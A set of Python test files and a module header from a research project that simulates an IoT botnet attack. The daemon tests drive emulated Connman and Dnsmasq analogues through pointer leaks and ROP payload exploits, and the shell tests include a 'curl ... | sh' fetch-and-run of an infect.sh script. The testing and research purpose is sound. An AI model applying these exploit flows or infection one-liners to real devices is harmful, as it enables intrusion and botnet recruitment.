