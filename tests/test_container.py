"""Unit tests for containers, processes and the runtime engine."""

import pytest

from repro.container.build import BuildContext, ImageBuilder
from repro.container.container import Container, ContainerError
from repro.container.image import Image
from repro.container.runtime import ContainerRuntime
from repro.container.veth import NetNamespace, VethPair
from repro.netsim.node import Node


def looping_program(ctx):
    while True:
        yield ctx.sleep(10.0)


def short_program(ctx):
    yield ctx.sleep(1.0)
    return "done"


def make_image(name="test-image", programs=None):
    image = Image(name)
    for path, program in (programs or {}).items():
        image.fs.write_file(path, b"\x7felf", mode=0o755, program=program)
    return image


@pytest.fixture
def runtime(sim):
    return ContainerRuntime(sim, seed=5)


def attach(sim, runtime, container):
    node = Node(sim, f"ghost-{container.name}")
    runtime.attach_network(container, node)
    return node


class TestLifecycle:
    def test_create_assigns_ids_and_names(self, sim, runtime):
        runtime.add_image(make_image())
        one = runtime.create("test-image")
        two = runtime.create("test-image")
        assert one.id != two.id
        assert one.name != two.name

    def test_duplicate_name_rejected(self, sim, runtime):
        runtime.add_image(make_image())
        runtime.create("test-image", name="same")
        with pytest.raises(ContainerError):
            runtime.create("test-image", name="same")

    def test_missing_image_rejected(self, sim, runtime):
        with pytest.raises(ContainerError):
            runtime.create("ghost:latest")

    def test_start_requires_network(self, sim, runtime):
        runtime.add_image(make_image())
        container = runtime.create("test-image")
        with pytest.raises(ContainerError):
            runtime.start(container)

    def test_start_runs_entrypoint(self, sim, runtime):
        image = make_image(programs={"/sbin/init": looping_program})
        image.entrypoint = ["/sbin/init"]
        runtime.add_image(image)
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        assert len(container.processes) == 1

    def test_stop_kills_processes(self, sim, runtime):
        image = make_image(programs={"/sbin/init": looping_program})
        image.entrypoint = ["/sbin/init"]
        runtime.add_image(image)
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        sim.run(until=1.0)
        runtime.stop(container)
        sim.run(until=2.0)
        assert container.live_processes() == []
        assert container.state == "stopped"

    def test_remove_requires_stop(self, sim, runtime):
        runtime.add_image(make_image())
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        with pytest.raises(ContainerError):
            runtime.remove(container)
        runtime.stop(container)
        runtime.remove(container)
        assert container.name not in runtime.containers

    def test_stop_all_is_idempotent(self, sim, runtime):
        runtime.add_image(make_image())
        for index in range(3):
            container = runtime.create("test-image", name=f"c{index}")
            attach(sim, runtime, container)
            runtime.start(container)
        runtime.stop_all()
        runtime.stop_all()
        assert runtime.running_containers() == []


class TestExec:
    def _running_container(self, sim, runtime, programs):
        runtime.add_image(make_image(programs=programs))
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        return container

    def test_exec_runs_program(self, sim, runtime):
        container = self._running_container(sim, runtime, {"/bin/tool": short_program})
        process = container.exec_run(["/bin/tool"])
        sim.run(until=5.0)
        assert process.exited
        assert process.exit_value == "done"

    def test_exec_missing_file(self, sim, runtime):
        container = self._running_container(sim, runtime, {})
        with pytest.raises(ContainerError, match="no such file"):
            container.exec_run(["/bin/absent"])

    def test_exec_non_executable(self, sim, runtime):
        container = self._running_container(sim, runtime, {})
        container.fs.write_file("/data.txt", b"hello", mode=0o644)
        with pytest.raises(ContainerError, match="permission denied"):
            container.exec_run(["/data.txt"])

    def test_exec_unknown_format(self, sim, runtime):
        container = self._running_container(sim, runtime, {})
        container.fs.write_file("/bin/mystery", b"\x00\x01", mode=0o755)
        with pytest.raises(ContainerError, match="exec format error"):
            container.exec_run(["/bin/mystery"])

    def test_exec_string_argv(self, sim, runtime):
        container = self._running_container(sim, runtime, {"/bin/tool": short_program})
        process = container.exec_run("/bin/tool --flag value")
        assert process.argv == ["/bin/tool", "--flag", "value"]

    def test_exec_in_stopped_container_rejected(self, sim, runtime):
        container = self._running_container(sim, runtime, {"/bin/tool": short_program})
        runtime.stop(container)
        with pytest.raises(ContainerError):
            container.exec_run(["/bin/tool"])

    def test_exited_process_reaped(self, sim, runtime):
        container = self._running_container(sim, runtime, {"/bin/tool": short_program})
        process = container.exec_run(["/bin/tool"])
        sim.run(until=5.0)
        assert process.pid not in container.processes


class TestProcessTable:
    def _container_with(self, sim, runtime, programs):
        runtime.add_image(make_image(programs=programs))
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        return container

    def test_find_processes_by_name(self, sim, runtime):
        container = self._container_with(sim, runtime, {"/bin/daemon": looping_program})
        container.exec_run(["/bin/daemon"])
        assert len(container.find_processes("daemon")) == 1
        assert container.find_processes("nothing") == []

    def test_process_name_mutation_visible(self, sim, runtime):
        container = self._container_with(sim, runtime, {"/bin/daemon": looping_program})
        process = container.exec_run(["/bin/daemon"])
        process.context.set_process_name("xyz123")
        assert container.find_processes("xyz123") == [process]
        assert container.find_processes("daemon") == []

    def test_port_binding_lookup(self, sim, runtime):
        container = self._container_with(sim, runtime, {"/bin/daemon": looping_program})
        process = container.exec_run(["/bin/daemon"])
        process.context.bind_port_marker(23)
        assert container.processes_bound_to(23) == [process]
        process.context.release_port_marker(23)
        assert container.processes_bound_to(23) == []

    def test_kill_process(self, sim, runtime):
        container = self._container_with(sim, runtime, {"/bin/daemon": looping_program})
        process = container.exec_run(["/bin/daemon"])
        assert container.kill_process(process.pid)
        sim.run(until=1.0)
        assert process.exited
        assert not container.kill_process(process.pid)

    def test_process_rng_is_deterministic(self, sim, runtime):
        container = self._container_with(sim, runtime, {"/bin/daemon": looping_program})
        process = container.exec_run(["/bin/daemon"])
        import random

        expected = random.Random(
            f"{container.seed}/{container.id}/{process.pid}/process-rng"
        ).random()
        assert process.context.rng.random() == expected


class TestMemoryAccounting:
    def test_stopped_container_reports_zero(self, sim, runtime):
        runtime.add_image(make_image())
        container = runtime.create("test-image")
        assert container.memory_bytes() == 0

    def test_memory_includes_base_fs_and_processes(self, sim, runtime):
        image = make_image(programs={"/bin/daemon": looping_program})
        image.fs.write_file("/data", b"z" * 1000)
        runtime.add_image(image)
        container = runtime.create("test-image")
        attach(sim, runtime, container)
        runtime.start(container)
        baseline = container.memory_bytes()
        assert baseline >= image.base_rss_bytes + 1000
        container.exec_run(["/bin/daemon"])
        assert container.memory_bytes() > baseline

    def test_runtime_stats_aggregate(self, sim, runtime):
        runtime.add_image(make_image())
        for index in range(2):
            container = runtime.create("test-image", name=f"m{index}")
            attach(sim, runtime, container)
            runtime.start(container)
        assert runtime.total_memory_bytes() == sum(m for _n, m in runtime.stats())
        assert len(runtime.stats()) == 2


class TestVeth:
    def test_attach_gives_netns(self, sim, runtime):
        runtime.add_image(make_image())
        container = runtime.create("test-image")
        node = Node(sim, "ghost")
        pair = runtime.attach_network(container, node)
        assert container.netns is not None
        assert container.netns.node is node
        pair.detach()
        assert container.netns is None

    def test_netns_socket_factories(self, sim, runtime, star):
        runtime.add_image(make_image())
        container = runtime.create("test-image")
        node = Node(sim, "ghost")
        star.attach_host(node, 1e6)
        runtime.attach_network(container, node)
        sock = container.netns.udp_socket(5000)
        assert sock.port == 5000
        assert container.netns.address() == star.address_of(node)
