"""Tests for the experiment observatory report (repro.obs.report) and
the sweep telemetry that feeds its execution summary."""

import io
import json

import pytest

from repro.analysis.features import capture_records_from_flows, windows_from_capture
from repro.core import DDoSim, SimulationConfig
from repro.obs import Observatory, flows_jsonl, render_run_report, render_sweep_report
from repro.parallel import SweepTelemetry, run_map


@pytest.fixture(scope="module")
def reported_run():
    config = SimulationConfig(
        n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
        sim_duration=120.0, protection_profiles=((),),
    )
    ddosim = DDoSim(config, observatory=Observatory.full())
    result = ddosim.run()
    return ddosim, result


def assert_self_contained(html: str) -> None:
    """The acceptance bar: one file, no runtime dependencies."""
    lowered = html.lower()
    assert lowered.startswith("<!doctype html>")
    assert "<script" not in lowered
    assert "http://" not in lowered
    assert "https://" not in lowered
    assert "<style>" in lowered  # CSS inlined, not linked
    assert 'rel="stylesheet"' not in lowered


class TestRunReport:
    def test_html_is_self_contained(self, reported_run):
        ddosim, result = reported_run
        html = render_run_report(
            result,
            spans=ddosim.obs.spans,
            tracer=ddosim.obs.tracer,
            recorder=ddosim.obs.recorder,
        )
        assert_self_contained(html)

    def test_sections_cover_tree_timeline_and_rate(self, reported_run):
        ddosim, result = reported_run
        html = render_run_report(
            result,
            spans=ddosim.obs.spans,
            tracer=ddosim.obs.tracer,
            recorder=ddosim.obs.recorder,
        )
        assert "attack.train" in html          # causal tree rendered
        assert "cnc.recruit" in html
        assert "<svg" in html                  # rate sparkline inlined
        assert "timeline" in html.lower()

    def test_missing_layers_render_notes_not_errors(self, reported_run):
        _ddosim, result = reported_run
        html = render_run_report(result)
        assert_self_contained(html)


class TestSweepReport:
    def test_rows_and_sparklines(self):
        rows = [
            {"n_devs": 10, "avg_kbps": 100.5, "label": "a"},
            {"n_devs": 50, "avg_kbps": 480.25, "label": "b"},
        ]
        html = render_sweep_report(rows, telemetry_summary={
            "total": 2, "cached": 1, "computed": 1, "stragglers": 0,
            "wall_seconds": 0.5,
        })
        assert_self_contained(html)
        assert "avg_kbps" in html
        assert "480.25" in html
        assert "<svg" in html

    def test_empty_rows_still_render(self):
        assert_self_contained(render_sweep_report([]))


class TestFlowsRoundTrip:
    def test_flows_jsonl_round_trips_through_features(self, reported_run):
        ddosim, result = reported_run
        flows = ddosim.tserver.sink.flow_records()
        assert flows, "attack run must leave flow records at the sink"
        text = flows_jsonl(flows)
        parsed = [json.loads(line) for line in text.splitlines()]
        assert parsed == json.loads(json.dumps(flows))  # lossless

        records = capture_records_from_flows(parsed)
        assert len(records) == sum(flow["packets"] for flow in flows)
        X, y = windows_from_capture(
            records,
            start=0.0,
            end=result.sim_end_time,
            window=5.0,
            attack_interval=(result.attack.issued_at,
                             result.attack.issued_at + 10.0),
        )
        assert X.shape[0] == len(y) > 0
        assert y.max() == 1  # attack windows labelled
        # Attack windows see traffic the idle windows do not.
        assert X[y == 1, 0].max() > X[y == 0, 0].max()

    def test_flow_records_are_deterministically_ordered(self, reported_run):
        ddosim, _result = reported_run
        flows = ddosim.tserver.sink.flow_records()
        keys = [(str(f["src"]), f["src_port"], f["dst_port"]) for f in flows]
        assert keys == sorted(keys)


@pytest.fixture(scope="module")
def fluid_reported_run():
    """The same tiny scenario on the fully-fluid datapath."""
    config = SimulationConfig(
        n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
        sim_duration=120.0, protection_profiles=((),), flood_flow="all",
    )
    ddosim = DDoSim(config, observatory=Observatory.full())
    result = ddosim.run()
    return ddosim, result


class TestFluidFlowReport:
    """Flow-mode runs feed the same report surfaces: rate sparkline,
    NetFlow JSONL, and the analysis.features round trip."""

    def test_run_report_renders_rate_sparkline(self, fluid_reported_run):
        ddosim, result = fluid_reported_run
        assert any(result.rate_series_kbps), \
            "fluid delivery must fill the received-rate series"
        html = render_run_report(
            result,
            spans=ddosim.obs.spans,
            tracer=ddosim.obs.tracer,
            recorder=ddosim.obs.recorder,
        )
        assert_self_contained(html)
        assert "<svg" in html

    def test_flows_jsonl_round_trips_through_features(self, fluid_reported_run):
        ddosim, result = fluid_reported_run
        flows = ddosim.tserver.sink.flow_records()
        assert flows, "fluid attack must leave flow records at the sink"
        text = flows_jsonl(flows)
        parsed = [json.loads(line) for line in text.splitlines()]
        assert parsed == json.loads(json.dumps(flows))

        records = capture_records_from_flows(parsed)
        assert len(records) == sum(flow["packets"] for flow in flows)
        X, y = windows_from_capture(
            records,
            start=0.0,
            end=result.sim_end_time,
            window=5.0,
            attack_interval=(result.attack.issued_at,
                             result.attack.issued_at + 10.0),
        )
        assert X.shape[0] == len(y) > 0
        assert y.max() == 1
        assert X[y == 1, 0].max() > X[y == 0, 0].max()


def _slow_square(value):
    return value * value


class TestSweepTelemetry:
    def test_progress_lines_and_summary(self):
        stream = io.StringIO()
        telemetry = SweepTelemetry(label="figure2", stream=stream)
        telemetry.begin(3, jobs=2)
        telemetry.point_cached(0, key="abcdef123456")
        telemetry.point_done(1, 0.5)
        telemetry.point_done(2, 0.6)
        summary = telemetry.finish()
        assert summary == telemetry.last_summary
        assert summary["total"] == 3
        assert summary["cached"] == 1
        assert summary["computed"] == 2
        assert summary["stragglers"] == []
        output = stream.getvalue()
        assert "[figure2]" in output
        assert "abcdef123456" in output

    def test_straggler_flagged_and_spanned(self):
        stream = io.StringIO()
        telemetry = SweepTelemetry(label="t", stream=stream,
                                   straggler_factor=3.0)
        telemetry.begin(4, jobs=1)
        for index in range(3):
            telemetry.point_done(index, 0.1)
        telemetry.point_done(3, 10.0)  # >> 3x median
        assert telemetry.stragglers == [3]
        assert "STRAGGLER" in stream.getvalue()
        kinds = telemetry.spans.kinds()
        assert kinds["sweep.point"] == 4

    def test_worker_death_dumps_flight_recorder(self):
        stream = io.StringIO()
        telemetry = SweepTelemetry(label="t", stream=stream)
        telemetry.begin(2, jobs=2)
        telemetry.point_done(0, 0.1)
        telemetry.worker_died(RuntimeError("boom"))
        assert telemetry.recorder.dumps
        assert telemetry.recorder.dumps[-1]["reason"] == "sweep.worker_death"
        assert "boom" in stream.getvalue()

    def test_run_map_with_telemetry_preserves_results(self):
        stream = io.StringIO()
        telemetry = SweepTelemetry(label="map", stream=stream)
        telemetry.begin(4, jobs=1)
        values = run_map(_slow_square, [1, 2, 3, 4], jobs=1,
                         telemetry=telemetry)
        telemetry.finish()
        assert values == [1, 4, 9, 16]
        assert telemetry.computed == 4
