"""Behavioural tests for the vulnerable daemons (Connman / Dnsmasq
analogues), exercised by hand-crafted protocol traffic."""

import pytest

from repro.binaries.connman import PHONE_HOME_NAME, make_connman_binary
from repro.binaries.dnsmasq import make_dnsmasq_binary
from repro.netsim.address import ALL_DHCP_RELAY_AGENTS_AND_SERVERS
from repro.netsim.node import Node
from repro.netsim.sockets import UdpSocket
from repro.services import dhcp6, dns
from repro.services.exploits import (
    ExploitKit,
    InfectionUrls,
    parse_leaked_pointer,
    slide_from_leak,
)
from tests.helpers import MiniNet


def make_dev(mininet, binary, name="dev", env=None, extra_files=None):
    daemon_path = f"/usr/sbin/{binary.name}"
    files = {daemon_path: (binary.serialize(), 0o755)}
    files.update(extra_files or {})
    container, node, link = mininet.host_container(
        name, rate_bps=300e3, files=files, env=env,
        dhcp6_member=(binary.name == "dnsmasq"),
    )
    process = container.exec_run([daemon_path])
    return container, node, process


class TestConnmanBehaviour:
    def attacker_socket(self, mininet):
        node = Node(mininet.sim, "attacker-node")
        mininet.star.attach_host(node, 10e6)
        return UdpSocket(node, 53), node

    def test_sends_periodic_queries(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        received = []

        container, _node, _proc = make_dev(
            mininet, make_connman_binary(), env={
                "DNS_SERVER": str(mininet.star.address_of(attacker)),
                "QUERY_INTERVAL": "5",
            },
        )

        def collect():
            for _ in range(2):
                payload, _src = yield sock.recvfrom()
                received.append(dns.DnsMessage.decode(payload))

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, collect(), name="collect")
        mininet.sim.run(until=30.0)
        assert len(received) == 2
        assert received[0].questions[0].name == PHONE_HOME_NAME
        assert not received[0].is_response

    def test_servfail_triggers_diagnostic_leak(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_connman_binary(protections=("wx", "aslr"))
        container, _node, _proc = make_dev(
            mininet, binary, env={"DNS_SERVER": str(mininet.star.address_of(attacker))}
        )
        leaks = []

        def serve():
            payload, (source, port) = yield sock.recvfrom()
            query = dns.DnsMessage.decode(payload)
            probe = dns.DnsMessage(
                id=query.id, flags=dns.FLAG_QR | dns.RCODE_SERVFAIL,
                questions=list(query.questions),
            )
            sock.sendto(probe.encode(), source, port)
            diagnostic, _src = yield sock.recvfrom()
            leaks.append(parse_leaked_pointer(diagnostic))

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, serve(), name="serve")
        mininet.sim.run(until=30.0)
        assert leaks and leaks[0] is not None
        # The leak is page-offset-consistent with the static address.
        assert (leaks[0] - binary.text_base - 0x1234) % 0x1000 == 0

    def _exploit_flow(self, protections, vulnerable=True):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_connman_binary(protections=protections, vulnerable=vulnerable)
        urls = InfectionUrls(file_server_host=str(mininet.star.address_of(attacker)))
        kit = ExploitKit(binary, urls)
        container, _node, process = make_dev(
            mininet, binary, env={"DNS_SERVER": str(mininet.star.address_of(attacker))}
        )

        def serve():
            payload, (source, port) = yield sock.recvfrom()
            query = dns.DnsMessage.decode(payload)
            probe = dns.DnsMessage(
                id=query.id, flags=dns.FLAG_QR | dns.RCODE_SERVFAIL,
                questions=list(query.questions),
            )
            sock.sendto(probe.encode(), source, port)
            diagnostic, _src = yield sock.recvfrom()
            slide = slide_from_leak(binary, parse_leaked_pointer(diagnostic))
            payload2, (source, port) = yield sock.recvfrom()
            query2 = dns.DnsMessage.decode(payload2)
            answer = dns.DnsResourceRecord(
                query2.questions[0].name, dns.TYPE_TXT, kit.rop_payload(slide)
            )
            sock.sendto(dns.make_response(query2, [answer]).encode(), source, port)

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, serve(), name="serve")
        mininet.sim.run(until=60.0)
        return container, process

    @pytest.mark.parametrize(
        "protections", [(), ("wx",), ("aslr",), ("wx", "aslr")]
    )
    def test_exploit_spawns_shell_under_any_protections(self, protections):
        container, daemon = self._exploit_flow(protections)
        # The daemon execlp'd into the infection one-liner: it exited and
        # a shell process ran in its place (it fails at curl since no file
        # server is up, but the hijack itself succeeded).
        assert daemon.exited
        assert any("hijack" in line for line in container.logs)

    def test_patched_binary_survives_exploit(self):
        container, daemon = self._exploit_flow(("wx",), vulnerable=False)
        assert not daemon.exited
        assert not any("hijack" in line for line in container.logs)

    def test_patched_version_number_forces_fix(self):
        binary = make_connman_binary(version="1.35")
        assert not binary.vulnerable

    def test_idles_without_dns_server(self):
        mininet = MiniNet()
        container, _node, process = make_dev(mininet, make_connman_binary())
        mininet.sim.run(until=5.0)
        assert process.exited  # logged and quit


class TestDnsmasqBehaviour:
    def attacker_socket(self, mininet):
        node = Node(mininet.sim, "attacker-node")
        mininet.star.attach_host(node, 10e6)
        return UdpSocket(node), node

    def test_answers_solicit_with_advertise(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        container, dev_node, _proc = make_dev(mininet, make_dnsmasq_binary())
        replies = []

        def client():
            solicit = dhcp6.Dhcp6Message(dhcp6.MSG_SOLICIT, transaction_id=9)
            sock.sendto(
                solicit.encode(),
                mininet.star.address_of(dev_node),
                dhcp6.SERVER_PORT,
            )
            payload, _src = yield sock.recvfrom()
            replies.append(dhcp6.Dhcp6Message.decode(payload))

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, client(), name="client")
        mininet.sim.run(until=10.0)
        assert replies and replies[0].msg_type == dhcp6.MSG_ADVERTISE
        assert replies[0].transaction_id == 9

    def test_information_request_leaks_pointer(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_dnsmasq_binary(protections=("aslr",))
        container, dev_node, _proc = make_dev(mininet, binary)
        leaks = []

        def client():
            probe = dhcp6.Dhcp6Message(dhcp6.MSG_INFORMATION_REQUEST, transaction_id=1)
            sock.sendto(
                probe.encode(),
                mininet.star.address_of(dev_node),
                dhcp6.SERVER_PORT,
            )
            payload, _src = yield sock.recvfrom()
            reply = dhcp6.Dhcp6Message.decode(payload)
            leaks.append(
                parse_leaked_pointer(reply.option(dhcp6.OPTION_STATUS_CODE).data)
            )

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, client(), name="client")
        mininet.sim.run(until=10.0)
        assert leaks and leaks[0] is not None

    def test_multicast_probe_reaches_daemon(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        container, dev_node, _proc = make_dev(mininet, make_dnsmasq_binary())
        replies = []

        def client():
            probe = dhcp6.Dhcp6Message(dhcp6.MSG_INFORMATION_REQUEST, transaction_id=2)
            sock.sendto(
                probe.encode(), ALL_DHCP_RELAY_AGENTS_AND_SERVERS, dhcp6.SERVER_PORT
            )
            payload, _src = yield sock.recvfrom()
            replies.append(payload)

        from repro.netsim.process import SimProcess

        SimProcess(mininet.sim, client(), name="client")
        mininet.sim.run(until=10.0)
        assert replies

    def test_relayforw_exploit_hijacks(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_dnsmasq_binary()
        urls = InfectionUrls(file_server_host=str(mininet.star.address_of(attacker)))
        kit = ExploitKit(binary, urls)
        container, dev_node, process = make_dev(mininet, binary)
        victim = mininet.star.address_of(dev_node)
        exploit = dhcp6.make_relay_forw(kit.rop_payload(0), link=victim, peer=victim)
        mininet.sim.schedule(
            1.0, sock.sendto, exploit.encode(), victim, dhcp6.SERVER_PORT
        )
        mininet.sim.run(until=10.0)
        assert process.exited
        assert any("hijack" in line for line in container.logs)

    def test_wrong_slide_crashes_aslr_daemon_without_infection(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_dnsmasq_binary(protections=("wx", "aslr"))
        urls = InfectionUrls(file_server_host=str(mininet.star.address_of(attacker)))
        kit = ExploitKit(binary, urls)
        container, dev_node, process = make_dev(mininet, binary)
        victim = mininet.star.address_of(dev_node)
        exploit = dhcp6.make_relay_forw(kit.rop_payload(0), link=victim, peer=victim)
        mininet.sim.schedule(
            1.0, sock.sendto, exploit.encode(), victim, dhcp6.SERVER_PORT
        )
        mininet.sim.run(until=10.0)
        assert process.exited
        assert any("crashed" in line for line in container.logs)
        assert not any("hijack" in line for line in container.logs)

    def test_patched_daemon_ignores_relayforw(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        binary = make_dnsmasq_binary(vulnerable=False)
        urls = InfectionUrls(file_server_host=str(mininet.star.address_of(attacker)))
        kit = ExploitKit(make_dnsmasq_binary(), urls)
        container, dev_node, process = make_dev(mininet, binary)
        victim = mininet.star.address_of(dev_node)
        exploit = dhcp6.make_relay_forw(kit.rop_payload(0), link=victim, peer=victim)
        mininet.sim.schedule(
            1.0, sock.sendto, exploit.encode(), victim, dhcp6.SERVER_PORT
        )
        mininet.sim.run(until=10.0)
        assert not process.exited

    def test_garbage_datagram_ignored(self):
        mininet = MiniNet()
        sock, attacker = self.attacker_socket(mininet)
        container, dev_node, process = make_dev(mininet, make_dnsmasq_binary())
        mininet.sim.schedule(
            1.0,
            sock.sendto,
            b"\xff\xfe garbage",
            mininet.star.address_of(dev_node),
            dhcp6.SERVER_PORT,
        )
        mininet.sim.run(until=5.0)
        assert not process.exited
