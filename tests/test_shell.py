"""Unit tests for the emulated shell and its builtins."""

import pytest

from repro.binaries.shell import ShellError, parse_url
from repro.netsim.address import Ipv4Address, Ipv6Address
from repro.netsim.process import SimProcess
from repro.services.http import HttpFileServer
from tests.helpers import MiniNet


def run_shell(mininet, container, command, until=60.0):
    """Execute ``sh -c command`` in the container; return stdout bytes."""
    process = container.exec_run(["/bin/sh", "-c", command])
    mininet.sim.run(until=until)
    assert process.exited, f"shell still running: {command!r}"
    if process.exit_error is not None:
        raise process.exit_error
    return process.exit_value


class TestUrlParsing:
    def test_ipv4_url(self):
        address, port, path = parse_url("http://10.0.0.1/file")
        assert address == Ipv4Address.parse("10.0.0.1")
        assert port == 80
        assert path == "/file"

    def test_ipv6_url_with_port(self):
        address, port, path = parse_url("http://[2001:db8::1]:8080/a/b")
        assert address == Ipv6Address.parse("2001:db8::1")
        assert port == 8080
        assert path == "/a/b"

    def test_default_path(self):
        assert parse_url("http://10.0.0.1")[2] == "/"

    @pytest.mark.parametrize("url", ["ftp://x/y", "http://", "not a url", "http://bad host/"])
    def test_malformed_rejected(self, url):
        with pytest.raises(ShellError):
            parse_url(url)


class TestBuiltins:
    @pytest.fixture
    def setup(self):
        mininet = MiniNet()
        container, node, link = mininet.host_container("shellbox", rate_bps=10e6)
        return mininet, container

    def test_echo(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo hello world") == b"hello world\n"

    def test_uname_reports_arch(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "uname -m") == b"x86_64\n"

    def test_variable_expansion_arch(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo bin.$ARCH") == b"bin.x86_64\n"

    def test_variable_expansion_env(self, setup):
        mininet, container = setup
        container.env["TARGET"] = "10.1.2.3"
        assert run_shell(mininet, container, "echo $TARGET") == b"10.1.2.3\n"

    def test_undefined_variable_empty(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo [$NOPE]") == b"[]\n"

    def test_chmod_and_rm(self, setup):
        mininet, container = setup
        container.fs.write_file("/tmp/f", b"x", mode=0o644)
        run_shell(mininet, container, "chmod +x /tmp/f")
        assert container.fs.entry("/tmp/f").executable
        run_shell(mininet, container, "rm /tmp/f")
        assert not container.fs.exists("/tmp/f")

    def test_rm_missing_fails_without_f(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "rm /tmp/missing")

    def test_rm_f_ignores_missing(self, setup):
        mininet, container = setup
        run_shell(mininet, container, "rm -f /tmp/missing")

    def test_sleep_advances_virtual_time(self, setup):
        mininet, container = setup
        process = container.exec_run(["/bin/sh", "-c", "sleep 5"])
        mininet.sim.run(until=60.0)
        assert process.exited
        assert mininet.sim.now >= 5.0

    def test_pipeline_feeds_stdin_script(self, setup):
        mininet, container = setup
        # echo emits a script line; sh executes it from stdin.
        out = run_shell(mininet, container, "echo echo nested | sh")
        assert out == b"nested\n"

    def test_script_file_execution(self, setup):
        mininet, container = setup
        container.fs.write_file(
            "/tmp/script.sh", b"#!/bin/sh\necho from-script\n", mode=0o755
        )
        process = container.exec_run(["/bin/sh", "/tmp/script.sh"])
        mininet.sim.run(until=10.0)
        assert process.exit_value == b"from-script\n"

    def test_comments_skipped(self, setup):
        mininet, container = setup
        out = run_shell(mininet, container, "echo echo ok | sh")
        assert out == b"ok\n"

    def test_background_execution_does_not_block(self, setup):
        mininet, container = setup

        def forever(ctx):
            while True:
                yield ctx.sleep(60.0)

        container.fs.write_file("/bin/daemon", b"\x7fd", mode=0o755, program=forever)
        process = container.exec_run(["/bin/sh", "-c", "/bin/daemon &"])
        mininet.sim.run(until=5.0)
        assert process.exited  # shell returned
        assert container.find_processes("daemon")  # daemon still alive

    def test_exec_missing_binary_fails(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "/bin/nothing")

    def test_unknown_curl_option_fails(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "curl --retry 5 http://10.0.0.1/x")


class TestCurl:
    def make_web(self, mininet, files):
        server = HttpFileServer(root="/var/www")
        container, node, _ = mininet.host_container(
            "web",
            rate_bps=10e6,
            files={"/usr/sbin/apache2": (b"\x7fa", 0o755, server.program())},
        )
        for path, data in files.items():
            container.fs.write_file(f"/var/www{path}", data)
        container.exec_run(["/usr/sbin/apache2"])
        return node

    def test_curl_to_stdout(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/hello": b"web-content"})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/hello"
        assert run_shell(mininet, container, f"curl -s {url}") == b"web-content"

    def test_curl_output_file(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/bin.x86_64": b"\x7fELFISH" * 10})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/bin.$ARCH"
        run_shell(mininet, container, f"curl -s {url} -o /tmp/.bin")
        assert container.fs.read_file("/tmp/.bin") == b"\x7fELFISH" * 10

    def test_curl_pipe_to_sh_runs_script(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/infect.sh": b"#!/bin/sh\necho infected\n"})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/infect.sh"
        assert run_shell(mininet, container, f"curl -s {url} | sh") == b"infected\n"

    def test_curl_404_silent_returns_empty(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/absent"
        assert run_shell(mininet, container, f"curl -s {url}") == b""

    def test_curl_404_loud_fails(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/absent"
        with pytest.raises(ShellError):
            run_shell(mininet, container, f"curl {url}")

    def test_hardened_shell_has_no_curl(self):
        """The paper's defense insight: no download tool on the device."""
        mininet = MiniNet()
        web = self.make_web(mininet, {"/x": b"data"})
        container, _n, _ = mininet.host_container(
            "client", rate_bps=10e6, allow_curl=False
        )
        url = f"http://[{mininet.star.address_of(web)}]:80/x"
        with pytest.raises(ShellError, match="not found"):
            run_shell(mininet, container, f"curl -s {url}")
