"""Parallel execution of independent experiment grid points.

Every sweep in :mod:`repro.core.experiment` evaluates a grid whose
points share nothing — each builds its own :class:`Simulator` from its
own config and seed — so they spread perfectly across worker processes.
This module is the one place that knows how.

Dispatch is a **dynamic work queue**, not static sharding: tasks sit on
one shared queue and idle workers pull the next point the moment they
finish their last (``imap_unordered`` with single-task chunks — the
multiprocessing flavour of work stealing).  A sweep whose grid is skewed
(one 150-Dev point among 10-Dev points) no longer idles the pool behind
its slowest static shard; the slow point occupies one worker while the
rest drain everything else.

:func:`run_cached` adds the cache layer (:mod:`repro.cache`): it first
partitions the grid into hits — served instantly from disk, no
simulator built — and misses, dispatches only the misses, and commits
each finished point to the cache *as it completes*.  An interrupted
